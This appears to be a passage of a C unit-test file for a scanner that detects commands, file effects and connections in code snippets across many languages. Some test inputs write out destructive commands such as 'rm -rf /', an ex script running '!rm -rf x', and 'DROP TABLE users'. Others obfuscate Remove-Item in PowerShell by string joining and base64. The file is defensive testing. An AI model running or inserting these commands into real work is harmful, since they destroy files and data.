	{ SG_LANGUAGE_PERL, "s/rm -rf/rm -r/g", "" },
	{ SG_LANGUAGE_PERL, "print if /system\\(\"x\"\\)/", "" },
	{ SG_LANGUAGE_PERL, "my %h=(a=>1,b=>2); print \"$_=$h{$_}\\n\" for sort keys %h", "" },
	{ SG_LANGUAGE_PERL, "$n++ while /x/g; END { print $n }", "" },
	{ SG_LANGUAGE_PERL, "print $1 if m#^/usr/(\\w+)'s#", "" },
	{ SG_LANGUAGE_PERL, "printf \"%-10s|%5.2f\\n\", $F[0], $F[1]", "" },
	{ SG_LANGUAGE_PERL, "y/a-z/A-Z/; tr/'\"//d; print", "" },
	{ SG_LANGUAGE_PERL, "print \"@{[1+1]} $h->{a}[0] user\\@example.com\\n\"", "" },
	{ SG_LANGUAGE_PERL, "$_=\"rm -rf x\"; system", "" },
	{ SG_LANGUAGE_PERL, "require POSIX; POSIX::_exit(0)", "" },
	{ SG_LANGUAGE_RUBY, "puts [1,2].map{|x| x*2}.inspect; puts \"a\".split(\",\").first", "" },
	{ SG_LANGUAGE_RUBY, "puts <<~EOS\nsystem(\"x\")\nEOS\nputs 1", "" },
	{ SG_LANGUAGE_RUBY, "puts 1", "" },
	{ SG_LANGUAGE_RUBY, "puts \"rm -rf #{1+1}\"", "" },
	{ SG_LANGUAGE_RUBY, "[1,2].each { |x| puts x }", "" },
	{ SG_LANGUAGE_RUBY, "puts ARGF.each_line.map(&:strip).sort.uniq", "" },
	{ SG_LANGUAGE_RUBY, "h={a: 1, \"b\"=>2}; puts h[:a]", "" },
	{ SG_LANGUAGE_RUBY, "puts \"x\" =~ /sys'tem/ ? 1 : 2", "" },
	{ SG_LANGUAGE_RUBY, "require \"json\"; puts JSON.parse(STDIN.read)[\"a\"]", "" },
	{ SG_LANGUAGE_RUBY, "puts %w[rm -rf x].inspect", "" },
	{ SG_LANGUAGE_PHP, "echo PHP_VERSION; var_dump(json_decode($s,true)[\"a\"]);", "" },
	{ SG_LANGUAGE_PHP, "echo 1;", "" },
	{ SG_LANGUAGE_PHP, "echo json_encode([\"cmd\"=>\"rm -rf /\"]);", "" },
	{ SG_LANGUAGE_PHP, "foreach ([1,2] as $x) { echo \"$x\\n\"; } // system(\"x\")", "" },
	{ SG_LANGUAGE_PHP, "echo str_replace(\"a\",\"b\",$argv[1]);", "" },
	{ SG_LANGUAGE_LUA, "print((\"x\"):rep(3)) -- os.execute(\"x\")", "" },
	{ SG_LANGUAGE_LUA, "print(\"hello\")", "" },
	{ SG_LANGUAGE_LUA, "for i=1,3 do print(i) end", "" },
	{ SG_LANGUAGE_LUA, "local t={1,2,a=\"x\"}; print(#t, t.a)", "" },
	{ SG_LANGUAGE_R, "print(mean(c(1,2,3))); cat(\"rm -rf\")", "" },
	{ SG_LANGUAGE_R, "print(1:10)", "" },
	{ SG_LANGUAGE_R, "x <- read.csv; summary(mtcars$mpg)", "" },
	{ SG_LANGUAGE_R, "library(ggplot2); cat(sprintf(\"%d\\n\", 3L))", "" },
	{ SG_LANGUAGE_OTHER, "IO.puts(\"rm -rf build\")", "" },
	{ SG_LANGUAGE_OTHER, "(message \"hello\")", "" },
	{ SG_LANGUAGE_OTHER, "spawn(fn -> IO.puts(\"hi\") end)", "" },
	{ SG_LANGUAGE_OTHER, "IO.puts \"hi\"", "" },
	{ SG_LANGUAGE_OTHER, "println(\"rm -rf x\")", "" },
	{ SG_LANGUAGE_OTHER, "(message \"%s\" (+ 1 2))", "" },
	{ SG_LANGUAGE_OTHER, "main = putStrLn \"hello\"", "" },
	{ SG_LANGUAGE_OTHER, "io:format(\"~p~n\", [1+1])", "" },
	{ SG_LANGUAGE_OTHER, "display dialog \"system\"", "" },
	{ SG_LANGUAGE_OTHER, "puts [expr 1+1]", "" },
	{ SG_LANGUAGE_AWK, "{print $1}", "" },
	{ SG_LANGUAGE_AWK, "{s+=$2} END {print s}", "" },
	{ SG_LANGUAGE_AWK, "NR==n", "" },
	{ SG_LANGUAGE_AWK, "/rm -rf/ {print NR\": \"$0}", "" },
	{ SG_LANGUAGE_AWK, "BEGIN{print \"curl\"}", "" },
	{ SG_LANGUAGE_AWK, "{ if ($1 > 5 && $2 ~ /a\\/\"b/) { n[$1]++ } } END { for (k in n) printf \"%s %d\\n\", k, n[k] }", "" },
	{ SG_LANGUAGE_AWK, "{ gsub(/\"/, \"\\\"\"); print toupper(substr($0,1,1)) }", "" },
	{ SG_LANGUAGE_AWK, "$1 == \"\001\" {print}", "" },
	{ SG_LANGUAGE_AWK, "{print $1, $NF}", "" },
	{ SG_LANGUAGE_AWK, "BEGIN{FS=\":\"} $3>1000{print $1}", "" },
	{ SG_LANGUAGE_AWK, "!seen[$0]++", "" },
	{ SG_LANGUAGE_AWK, "{a[NR]=$0} END{for(i=NR;i>0;i--) print a[i]}", "" },
	{ SG_LANGUAGE_AWK, "length($0) > 80 { print FILENAME \": \" FNR }", "" },
	{ SG_LANGUAGE_AWK, "{ sub(/system\\(\"x\"\\)/, \"y\"); print }", "" },
	{ SG_LANGUAGE_SED, "s/a/b/;s/c/d/", "" },
	{ SG_LANGUAGE_SED, "s|/usr|/opt|", "" },
	{ SG_LANGUAGE_SED, "/start/,/end/p", "" },
	{ SG_LANGUAGE_SED, "y/abc/xyz/", "" },
	{ SG_LANGUAGE_SED, "s/git push --force/git push/", "" },
	{ SG_LANGUAGE_SED, "s/foo/the e flag is e/g", "" },
	{ SG_LANGUAGE_SED, "a\\\ne rm -rf x", "" },
	{ SG_LANGUAGE_SED, "s/[/]/x/;s/e /w/", "" },
	{ SG_LANGUAGE_SED, "s/a/\001/", "" },
	{ SG_LANGUAGE_SED, "\001p", "" },
	{ SG_LANGUAGE_SED, ":a;N;$!ba;s/\\n/ /g", "" },
	{ SG_LANGUAGE_SED, "1,10d", "" },
	{ SG_LANGUAGE_SED, "s#e#f#2p", "" },
	{ SG_LANGUAGE_SED, "s/a/b/g", "" },
	{ SG_LANGUAGE_SED, "/^$/d", "" },
	{ SG_LANGUAGE_SED, "$!N;P;D", "" },
	{ SG_LANGUAGE_SED, "/a/,/b/{s/x/y/;p}", "" },
	{ SG_LANGUAGE_SED, "2i\\\nhello world", "" },
	{ SG_LANGUAGE_SED, "s/\\(a\\)\\/e/\\1/", "" },
	{ SG_LANGUAGE_SED, "s,e,w,g;p", "" },
	{ SG_LANGUAGE_EX, "q", "" },
	{ SG_LANGUAGE_EX, "wq", "" },
	{ SG_LANGUAGE_EX, "set nu", "" },
	{ SG_LANGUAGE_EX, "%s/a/b/g", "" },
	{ SG_LANGUAGE_EX, "a\n!rm -rf x\n.\nw\nq", "" },
	{ SG_LANGUAGE_EX, "%s/foo/bar/g", "" },
	{ SG_LANGUAGE_EX, "wq!", "" },
	{ SG_LANGUAGE_EX, "set number", "" },
	{ SG_LANGUAGE_EX, "normal ggdG", "" },
	{ SG_LANGUAGE_EX, "1,5d", "" },
	{ SG_LANGUAGE_GDB, "run", "" },
	{ SG_LANGUAGE_GDB, "bt", "" },
	{ SG_LANGUAGE_GDB, "break main", "" },
	{ SG_LANGUAGE_GDB, "bt full", "" },
	{ SG_LANGUAGE_GDB, "info registers", "" },
	{ SG_LANGUAGE_SQL, "select * from t limit 5", "" },
	{ SG_LANGUAGE_SQL, ".tables", "" },
	{ SG_LANGUAGE_SQL, "DROP TABLE users", "" },
	{ SG_LANGUAGE_SQL, "select 'rm -rf'; -- .shell x", "" },
	{ SG_LANGUAGE_SQL, "select system, program from t where a='x'", "" },
	{ SG_LANGUAGE_SQL, ".mode csv", "" },
	{ SG_LANGUAGE_SQL, "\\dt", "" },
	{ SG_LANGUAGE_SQL, "\\c mydb", "" },
	{ SG_LANGUAGE_SQL, "select count(*) from program", "" },
	{ SG_LANGUAGE_SQL, ".schema", "" },
	{ SG_LANGUAGE_SQL, "EXPLAIN SELECT * FROM users WHERE a = 'rm -rf'", "" },
	{ SG_LANGUAGE_SQL, "\\d+ users", "" },
	{ SG_LANGUAGE_MAKE, "X = 1", "" },
	{ SG_LANGUAGE_MAKE, "CFLAGS = -O2", "" },
	{ SG_LANGUAGE_MAKE, "# $(shell x)", "" },
	{ SG_LANGUAGE_TEX, "\\documentclass{article}\\begin{document}hi\\end{document}", "" },
	{ SG_LANGUAGE_TEX, "\\textbf{hi}", "" },
	{ SG_LANGUAGE_POWERSHELL, "$x = 1; $x", "" },
	{ SG_LANGUAGE_POWERSHELL, "$a,$b = 1,2", "" },
	{ SG_LANGUAGE_POWERSHELL, "[char]82+\"emove-Item\"", "" },
	{ SG_LANGUAGE_POWERSHELL, "('re','move') -join ''", "" },
	{ SG_LANGUAGE_POWERSHELL, "return 1", "" },
	{ SG_LANGUAGE_POWERSHELL, "$h=@{a=1;b=\"x\"}; $h.a", "" },
	{ SG_LANGUAGE_POWERSHELL, "$x.Foo().Bar", "" },
	{ SG_LANGUAGE_POWERSHELL, "\"a\" + \"b\"", "" },
	{ SG_LANGUAGE_CMD, "rem rd /s /q x", "" },
	{ SG_LANGUAGE_CMD, "::rd", "" },
};
/* clang-format on */

static const char *
language_word(enum sg_language language)
{
	return language == SG_LANGUAGE_SHELL ? "sh" : sg_language_words[language];
}

static void
add_marked(void *context, char sign, struct sg_span text)
{
	struct sg_buffer *line = context;

	sg_buffer_add_char(line, sign);
	for (size_t i = 0; i < text.len; i++)
		sg_buffer_add_char(line, text.p[i] == SG_MARK_ANY ? '\001' : text.p[i]);
}

static void
put(void *context, const char *what, struct sg_span text)
{
	struct sg_buffer *line = context;

	if (line->len)
		sg_buffer_add(line, SG_SPAN("; "));
	sg_buffer_add(line, sg_span_of(what));
	if (text.len)
		add_marked(context, ' ', text);
}

static void
on_command(void *context, enum sg_language dialect, const struct sg_word *words, size_t count)
{
	put(context,
	    dialect == SG_LANGUAGE_POWERSHELL ? "ps"
	    : dialect == SG_LANGUAGE_CMD      ? "cmd"
					      : "run",
	    SG_SPAN(""));
	for (size_t i = 0; i < count; i++)
		add_marked(context, words[i].flags & SG_WORD_SPLIT ? '*' : '|', words[i].text);
}

static void
on_script(void *context, enum sg_language language, struct sg_word text)
{
	put(context, language_word(language), SG_SPAN(""));
	add_marked(context, ' ', text.text);
}

static void
on_effect(void *context, enum sg_effect_kind kind, struct sg_word word)
{
	put(context,
	    kind == SG_EFFECT_READ    ? "read"
	    : kind == SG_EFFECT_WRITE ? "write"
				      : "connect",
	    word.text);
}

static void
on_variable(void *context, struct sg_span name, struct sg_word value)
{
	put(context, "set", name);
	add_marked(context, '=', value.text);
}

/* Guesses come last; what was found already is not told twice. */
static void
on_guess(void *context, const struct sg_word *words, size_t count)
{
	const struct sg_buffer *line = context;

	if (line->len)
		return;
	put(context, "guess", words[0].text);
	for (size_t i = 1; i < count; i++)
		add_marked(context, ' ', words[i].text);
}

static void
on_problem(void *context, enum sg_code code, struct sg_span what)
{
	assert_true(what.len > 0);
	put(context,
	    code == SG_E_SCRIPT_OPAQUE  ? "opaque"
	    : code == SG_E_SCRIPT_LIMIT ? "limit"
					: "problem",
	    SG_SPAN(""));
}

/* Everything that a scan tells, as one line in the arena. */
static struct sg_span
scan(enum sg_language language, struct sg_span code, struct sg_arena *arena)
{
	struct sg_buffer line = { .arena = arena };
	static const bool stopped = false;
	struct sg_scan_sink sink = { &line,     on_command,  on_script,  on_guess,
				     on_effect, on_variable, on_problem, &stopped };

	sg_scan_code(language, code, arena, &sink);
	sg_buffer_add_char(&line, '\0');
	return sg_buffer_span(&line);
}

static struct sg_span
marked(const char *text, struct sg_arena *arena)
{
	char *copy = sg_arena_alloc(arena, strlen(text) + 1);

	for (size_t i = 0; text[i]; i++)
		copy[i] = text[i] == '\001' ? SG_MARK_ANY : text[i];
	return (struct sg_span){ copy, strlen(text) };
}

static void
check_rows(const struct row *rows, size_t count)
{
	for (size_t i = 0; i < count; i++) {
		struct sg_arena arena;
		struct sg_span line;

		sg_arena_init(&arena, 0);
		line = scan(rows[i].language, marked(rows[i].code, &arena), &arena);
		if (strcmp(line.p, rows[i].found) != 0)
			fail_msg("%s: %s\nfound:    %s\nexpected: %s",
				 language_word(rows[i].language), rows[i].code, line.p,
				 rows[i].found);
		sg_arena_free(&arena);
	}
}

static void
finds_what_code_does(void **state)
{
	(void)state;
	check_rows(found, SG_ARRAY_LEN(found));
}

static void
is_silent_on_ordinary_work(void **state)
{
	(void)state;
	check_rows(silent, SG_ARRAY_LEN(silent));
}

/* Nothing but an unknown part is a problem in every language that is code. */
static void
unknown_code_is_a_problem(void **state)
{
	(void)state;
	for (int language = SG_LANGUAGE_POWERSHELL; language < SG_LANGUAGE_COUNT; language++) {
		struct sg_arena arena;

		sg_arena_init(&arena, 0);
		assert_string_equal(
			scan((enum sg_language)language, marked("\001", &arena), &arena).p,
			"opaque");
		sg_arena_free(&arena);
	}
}

/* Deep nesting and long repetition end in a limit or an answer, never in a crash or a long wait. */
static void
hostile_sizes_are_bounded(void **state)
{
	static const char *const parts[] = {
		"(",    "[",   "{",      "a(",          "`${",         "\"#{", "$(",       "'",
		"\"",   "a.b", "x=",     "<<E\n",       "%x(",         "qw{",  "s/",       "if (",
		"& {",  "@(",  "@{a=",   "for %i in (", "/[",          "f\"{", "'a'+",     "%X%",
		"a?b:", "!",   "-join ", "|",           "set X=%X%a&", "//",   "$(shell ", "\\\n"
	};

	(void)state;
	for (int language = SG_LANGUAGE_POWERSHELL; language < SG_LANGUAGE_COUNT; language++) {
		for (size_t i = 0; i < SG_ARRAY_LEN(parts); i++) {
			struct sg_arena arena;
			struct sg_buffer code = { .arena = &arena };

			sg_arena_init(&arena, 0);
			while (code.len < 40000)
				sg_buffer_add(&code, sg_span_of(parts[i]));
			scan((enum sg_language)language, sg_buffer_span(&code), &arena);
			sg_arena_free(&arena);
		}
	}
}

static void
decodes_encoded_commands(void **state)
{
	static const struct {
		const char *base64;
		const char *text; /* NULL: none */
	} rows[] = {
		{ "UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==", "Remove-Item" },
		{ "UgBlAG0AbwB2AGUALQBJAHQAZQBtAA", "Remove-Item" },
		{ "6QDsIA==", "\303\251\342\203\254" },
		{ "PdgA3g==", "\360\237\230\200" },
		{ "AAA=", NULL },
		{ "YWI", "\346\211\241" },
		{ "YWJj", NULL },
		{ "ANg=", NULL },
		{ "Remove-Item", NULL },
		{ "", NULL },
	};

	(void)state;
	for (size_t i = 0; i < SG_ARRAY_LEN(rows); i++) {
		struct sg_arena arena;
		struct sg_span text = { 0 };

		sg_arena_init(&arena, 0);
		assert_int_equal(
			sg_scan_decode_powershell(sg_span_of(rows[i].base64), &arena, &text),
			rows[i].text != NULL);
		if (rows[i].text)
			assert_true(sg_span_is(text, rows[i].text));
		sg_arena_free(&arena);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_what_code_does),
		cmocka_unit_test(is_silent_on_ordinary_work),
		cmocka_unit_test(unknown_code_is_a_problem),
		cmocka_unit_test(hostile_sizes_are_bounded),
		cmocka_unit_test(decodes_encoded_commands),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
